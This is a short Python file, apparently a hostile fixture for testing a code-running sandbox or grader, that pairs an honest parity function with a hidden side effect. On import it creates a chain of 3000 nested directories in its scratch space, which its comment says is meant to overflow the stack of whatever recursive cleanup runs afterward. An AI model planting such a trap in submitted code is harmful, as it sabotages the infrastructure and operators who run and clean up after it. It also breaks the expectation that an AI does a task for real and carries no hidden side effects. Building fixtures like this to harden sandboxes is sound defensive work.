# Leaves a directory chain thousands of levels deep in its scratch (a recursive cleanup overflows its
# stack on it). An honest parity program otherwise: the attack targets whoever cleans up after it.
import os

DEPTH = 3000


def plant():
    made = 0
    try:
        for _ in range(DEPTH):
            os.mkdir("d")
            os.chdir("d")
            made += 1
    except OSError:
        pass
    return made


MADE = plant()


def f(x):
    return x.count("1") % 2
